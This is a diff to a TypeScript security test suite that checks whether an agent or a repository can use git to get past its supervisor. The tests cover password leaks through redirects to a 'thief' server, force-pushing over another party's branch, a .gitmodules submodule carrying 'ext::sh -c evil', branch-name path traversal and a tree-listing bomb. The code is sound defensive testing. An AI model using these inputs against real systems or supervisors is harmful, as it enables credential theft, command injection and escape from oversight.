@@ -1,6 +1,5 @@
 // Can an agent, or a repository, have git do for it what it may not do itself?
-import { execFileSync } from "node:child_process";
-import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { cpSync, existsSync, readFileSync, writeFileSync } from "node:fs";
 import { createServer, type IncomingMessage, request, type ServerResponse } from "node:http";
 import { dirname, join } from "node:path";
 import { cloneRepository } from "../../functions/git/clone.ts";
@@ -13,11 +12,16 @@ import { listenOnLoopback } from "../../infra/local/aws-json.ts";
 import { startGitServer } from "../../infra/local/git-server.ts";
 import { serveLocalRepositories } from "../../infra/local/local-repositories.ts";
 import { git } from "../git/native-git.ts";
+import { edit } from "../simulation/mutants/edit.ts";
 import { baseFiles, commitNaively, cross, makeBase, openWorkshop, trustingGit } from "./crossing.ts";
 import type { Field } from "./field.ts";
+import { withoutSafeguard } from "./unguarded.ts";
 import type { Vector } from "./vector.ts";
 
 const timeoutMs = 20_000;
+const gitHttp = "functions/git/http.ts";
+const gitRemote = "functions/git/remote.ts";
+const gitPush = "functions/git/push.ts";
 const marked = (field: Field) => join(field.scratch(), "was-here");
 
 interface Plant {
@@ -29,20 +33,22 @@ interface Plant {
   after?: string[];
 }
 
+const work = (script: string) => `mkdir -p .git; echo changed > README.md; ${script}`;
+
 /** Settings that make git run a program: of the agent, under the supervisor's uid. */
 function plant({ attack, heldBy, script, after }: Plant): Vector {
   return {
     ...{ attack, heldBy, needs: ["git"] },
     async run(field) {
       const marker = marked(field);
-      const crossed = await cross(field, `mkdir -p .git; echo changed > README.md; ${script(marker)}`);
+      const crossed = await cross(field, work(script(marker)));
       if (crossed.kind !== "collected" || crossed.files.length === 0) throw new Error(JSON.stringify(crossed));
       return existsSync(marker);
     },
     async control(field) {
       const marker = marked(field);
-      const work = await commitNaively(field, `echo changed > README.md; ${script(marker)}`);
-      if (after) await trustingGit(work, after);
+      const directory = await commitNaively(field, work(script(marker)));
+      if (after) await trustingGit(directory, after);
       return existsSync(marker);
     },
   };
@@ -88,18 +94,18 @@ function atPush(
     const { url, auth } = await serve(field, bare);
     const thief = await openThief(field);
     const marker = marked(field);
-    const commands = script(field, { url, thief: thief.url, marker });
+    const commands = work(script(field, { url, thief: thief.url, marker }));
     if (guarded) {
       const { repository } = await openWorkshop(field);
-      const crossed = await cross(field, `mkdir -p .git; echo changed > README.md; ${commands}`);
+      const crossed = await cross(field, commands);
       const { commit } = crossed as Extract<typeof crossed, { kind: "collected" }>;
       const outcome = await pushCommit({ repository, commit, branch: "work", url, auth, expect: "absent" });
       if (outcome.kind !== "pushed") throw new Error(JSON.stringify(outcome));
     } else {
-      const work = await commitNaively(field, commands);
+      const directory = await commitNaively(field, commands);
       const ask = join(field.scratch(), "ask.sh");
       writeFileSync(ask, `#!/bin/sh\necho '${auth.password}'\n`, { mode: 0o755 });
-      await trustingGit(work, ["push", url, "HEAD:refs/heads/work"], { GIT_ASKPASS: ask });
+      await trustingGit(directory, ["push", url, "HEAD:refs/heads/work"], { GIT_ASKPASS: ask });
     }
     return thief.hasPassword() || (existsSync(marker) && readFileSync(marker, "utf8").includes(field.secret));
   };
@@ -200,39 +206,41 @@ export const gitVectors: Vector[] = [
   {
     attack: "have the password follow a redirect to another host",
     heldBy: "redirects that are followed within one origin only",
-    async run(field) {
-      const { url, thief, auth } = await redirect(field);
-      await inspectRemote({ url, auth, timeoutMs });
-      return thief.hasPassword();
-    },
+    run: (field) => isRedirected(field, inspectRemote),
     async control(field) {
-      const { url, thief, auth } = await redirect(field);
-      await followAnywhere(url, `Basic ${Buffer.from(`${auth.username}:${auth.password}`).toString("base64")}`);
-      return thief.hasPassword();
+      const { load } = withoutSafeguard(field, [edit(gitHttp, "if (next?.origin !== url.origin)", "if (!next)")]);
+      return isRedirected(field, (await load<typeof import("../../functions/git/remote.ts")>(gitRemote)).inspectRemote);
     },
   },
   {
     attack: "overwrite a branch of somebody else's",
     heldBy: "a push that says what it expects, and takes nothing away",
     needs: ["git"],
-    async run(field) {
-      const { remote, ...request } = await pushOverMain(field);
-      await pushCommit({ ...request, branch: "main", expect: "absent" });
-      return git(remote.work, ["rev-parse", "main"]).trim() !== remote.head;
-    },
+    run: (field) => isOverwritten(field, pushCommit),
     async control(field) {
-      const { remote, repository, commit } = await pushOverMain(field);
-      await trustingGit(repository.gitDir, ["push", "--force", remote.bare, `${commit}:refs/heads/main`]);
-      return git(remote.work, ["rev-parse", "main"]).trim() !== remote.head;
+      const { load } = withoutSafeguard(field, [
+        edit(
+          gitPush,
+          'const expected = expect === "absent" ? undefined : expect.commit;\n  if (at !== expected)',
+          "const expected = at;\n  if (at !== expected)",
+        ),
+      ]);
+      return isOverwritten(field, (await load<typeof import("../../functions/git/push.ts")>(gitPush)).pushCommit);
     },
   },
   {
     attack: "open another repository of the machine with the password of its own",
     heldBy: "a password for each path",
     needs: ["git"],
-    run: async (field) => opensOther(field, (options) => serveLocalRepositories(options)),
-    control: async (field) =>
-      opensOther(field, (_options, directory) => startGitServer({ authorize: () => true, resolve: () => directory })),
+    run: (field) => opensOther(field, serveLocalRepositories),
+    async control(field) {
+      const file = "infra/local/local-repositories.ts";
+      const { load } = withoutSafeguard(field, [
+        edit(file, "isSame(password, localRepositoryPassword(options.secret, path))", 'password !== ""'),
+      ]);
+      const loaded = await load<typeof import("../../infra/local/local-repositories.ts")>(file);
+      return opensOther(field, loaded.serveLocalRepositories);
+    },
   },
   {
     attack: "have the supervisor ask an address of the repository's choosing (.gitmodules)",
@@ -272,40 +280,27 @@ export const gitVectors: Vector[] = [
     attack: "write outside of the git directory by the name of a branch that the server makes up",
     heldBy: "names of branches that are judged before they become files",
     needs: ["git"],
-    async run(field) {
-      const { url, auth } = await serveMadeUpBranch(field);
-      const dir = join(field.scratch(), "deep/clone");
-      const found = await inspectRemote({ url, auth, timeoutMs });
-      const branch = found.kind === "found" ? found.branch : madeUp;
-      await cloneRepository({ dir, url, auth, branch }).catch(() => undefined);
-      const places = ["refs/heads", "refs/remotes/origin"].map((folder) => join(dir, folder, madeUp));
-      return found.kind === "found" || places.some((place) => existsSync(place));
-    },
+    run: (field) => isMadeUpTaken(field, { inspectRemote, cloneRepository }),
     async control(field) {
-      const { url, auth } = await serveMadeUpBranch(field);
-      const advertised = await readAdvertisement(url, auth);
-      const [, oid = "", name = ""] = /([0-9a-f]{40}) (refs\/heads\/\.\.[^\s\0]+)/.exec(advertised) ?? [];
-      const dir = join(field.scratch(), "deep/clone/git");
-      mkdirSync(dir, { recursive: true });
-      writeFileSync(join(dir, name), oid);
-      return !join(dir, name).startsWith(dir) && existsSync(join(dir, name));
+      const { load } = withoutSafeguard(field, [
+        edit("functions/git/branch-name.ts", 'if (branch.includes("..") ||', "if ("),
+        edit("functions/git/branch-name.ts", 'if (part.startsWith(".") || part.endsWith("."))', "if (false)"),
+      ]);
+      return isMadeUpTaken(field, {
+        ...(await load<typeof import("../../functions/git/remote.ts")>(gitRemote)),
+        ...(await load<typeof import("../../functions/git/clone.ts")>("functions/git/clone.ts")),
+      });
     },
   },
   {
-    attack: "name a billion files in three small trees",
+    attack: "name more than a million files in two small trees",
     heldBy: "an end to how many are listed",
     needs: ["git"],
-    async run(field) {
-      const { gitDir, commit } = plantTrees(field);
-      return listTree({ gitDir, baseCommit: commit, cache: {} }, commit).then(
-        () => true,
-        () => false,
-      );
-    },
+    run: (field) => isListed(field, listTree),
     async control(field) {
-      const { gitDir, commit } = plantTrees(field);
-      const count = `git --git-dir='${gitDir}' ls-tree -r --name-only ${commit} | head -n 1500000 | wc -l`;
-      return Number(execFileSync("sh", ["-c", count], { encoding: "utf8" })) === 1_500_000;
+      const file = "functions/git/list-tree.ts";
+      const { load } = withoutSafeguard(field, [edit(file, "if (entries.length >= maxEntries)", "if (false)")]);
+      return isListed(field, (await load<typeof import("../../functions/git/list-tree.ts")>(file)).listTree);
     },
   },
 ];
@@ -322,41 +317,35 @@ function lookElsewhere(field: Field) {
 const nested = "git init -q . && git -c user.name=T -c user.email=t@t commit -q --allow-empty -m x";
 const addSubmodule = `printf '[submodule "sub"]\\npath = sub\\nurl = ext::sh -c evil\\n' > .gitmodules; mkdir sub && cd sub && HOME=. ${nested}`;
 
-async function redirect(field: Field) {
+async function isRedirected(field: Field, inspect: typeof inspectRemote): Promise<boolean> {
   const thief = await openThief(field);
   const away = await listenOnLoopback(async (asked, answer) => {
     if (asked.headers.authorization) return void answer.writeHead(302, { location: `${thief.url}${asked.url}` }).end();
     answer.writeHead(401, { "www-authenticate": 'Basic realm="x"' }).end();
   });
   field.undo(() => away.close());
-  return { thief, url: `${away.url}/shop`, auth: { username: "x", password: field.secret } };
+  await inspect({ url: `${away.url}/shop`, auth: { username: "x", password: field.secret }, timeoutMs });
+  return thief.hasPassword();
 }
 
-/** A client that keeps its headers wherever it is sent. */
-async function followAnywhere(url: string, authorization: string): Promise<void> {
-  const answer = await new Promise<IncomingMessage>((resolve, reject) => {
-    request(url, { headers: { authorization } }, resolve).on("error", reject).end();
-  });
-  answer.resume();
-  if (answer.headers.location) await followAnywhere(answer.headers.location, authorization);
-}
-
-async function pushOverMain(field: Field) {
+/** Its work grew from a commit that somebody else's branch has left behind. */
+async function isOverwritten(field: Field, push: typeof pushCommit): Promise<boolean> {
   const remote = makeBase(field);
   const { url, auth } = await serve(field, remote.bare);
+  const gitDir = join(field.scratch(), "clone.git");
+  cpSync(remote.bare, gitDir, { recursive: true });
+  const commit = git(gitDir, ["commit-tree", "-p", remote.head, "-m", "Work", `${remote.head}^{tree}`]).trim();
+  git(remote.work, ["commit", "-q", "--allow-empty", "-m", "Somebody else's"]);
   git(remote.work, ["config", "receive.denyCurrentBranch", "ignore"]);
-  const other = makeBase(field, { ...baseFiles, more: "more\n" });
-  const repository = { gitDir: other.bare, baseCommit: other.head, cache: {} };
-  return { remote, repository, commit: other.head, url, auth };
+  const repository = { gitDir, baseCommit: remote.head, cache: {} };
+  await push({ repository, commit, url, auth, branch: "main", expect: "absent" });
+  return git(remote.work, ["rev-parse", "main"]).trim() === commit;
 }
 
-async function opensOther(
-  field: Field,
-  start: (options: { secret: string }, directory: string) => ReturnType<typeof startGitServer>,
-): Promise<boolean> {
+async function opensOther(field: Field, start: typeof serveLocalRepositories): Promise<boolean> {
   const secret = "of this stack";
   const [mine, other] = [makeBase(field), makeBase(field)];
-  const server = await start({ secret }, other.work);
+  const server = await start({ secret });
   field.undo(() => server.close());
   const auth = { username: "drover", password: localRepositoryPassword(secret, mine.work) };
   const found = await inspectRemote({ url: localRepositoryUrl(server.url, other.work), auth, timeoutMs });
@@ -374,6 +363,19 @@ async function baseWithSubmodule(field: Field) {
 /** As long as each other, so that no length of a packet changes. */
 const honest = "aaaaaaaaaaaaaaaa";
 const madeUp = "../../../../evil";
+
+type Looking = Pick<typeof import("../../functions/git/remote.ts"), "inspectRemote"> &
+  Pick<typeof import("../../functions/git/clone.ts"), "cloneRepository">;
+
+async function isMadeUpTaken(field: Field, { inspectRemote, cloneRepository }: Looking): Promise<boolean> {
+  const { url, auth } = await serveMadeUpBranch(field);
+  const dir = join(field.scratch(), "deep/clone");
+  const found = await inspectRemote({ url, auth, timeoutMs });
+  const branch = found.kind === "found" ? found.branch : madeUp;
+  await cloneRepository({ dir, url, auth, branch }).catch(() => undefined);
+  const places = ["refs/heads", "refs/remotes/origin"].map((folder) => join(dir, folder, madeUp));
+  return found.kind === "found" || places.some((place) => existsSync(place));
+}
 
 /** A git server whose only branch is called what no branch may be called. */
 async function serveMadeUpBranch(field: Field) {
@@ -397,21 +399,18 @@ async function serveMadeUpBranch(field: Field) {
   return { url: `http://127.0.0.1:${typeof address === "object" ? address?.port : 0}/shop`, auth };
 }
 
-async function readAdvertisement(url: string, { username, password }: { username: string; password: string }) {
-  const authorization = `Basic ${Buffer.from(`${username}:${password}`).toString("base64")}`;
-  const answer = await fetch(`${url}/info/refs?service=git-upload-pack`, { headers: { authorization } });
-  return Buffer.from(await answer.arrayBuffer()).toString("latin1");
-}
-
-/** Each of a thousand entries of a tree is the same tree again. */
-function plantTrees(field: Field) {
+/** Each entry of the upper tree is the same lower one again. */
+async function isListed(field: Field, list: typeof listTree): Promise<boolean> {
   const { bare: gitDir } = makeBase(field);
-  const makeTree = (mode: string, type: string, oid: string) => {
-    const lines = Array.from({ length: 1_000 }, (_, at) => `${mode} ${type} ${oid}\tn${at}\n`);
+  const makeTree = (count: number, mode: string, type: string, oid: string) => {
+    const lines = Array.from({ length: count }, (_, at) => `${mode} ${type} ${oid}\tn${at}\n`);
     return git(gitDir, ["mktree"], lines.join("")).trim();
   };
   const blob = git(gitDir, ["hash-object", "-w", "--stdin"], "x").trim();
-  const leaf = makeTree("100644", "blob", blob);
-  const root = makeTree("040000", "tree", makeTree("040000", "tree", leaf));
-  return { gitDir, commit: git(gitDir, ["commit-tree", "-m", "Many", root]).trim() };
+  const root = makeTree(1_100, "040000", "tree", makeTree(1_000, "100644", "blob", blob));
+  const commit = git(gitDir, ["commit-tree", "-m", "Many", root]).trim();
+  return list({ gitDir, baseCommit: commit, cache: {} }, commit).then(
+    (entries) => entries.length === 1_100_000,
+    () => false,
+  );
 }
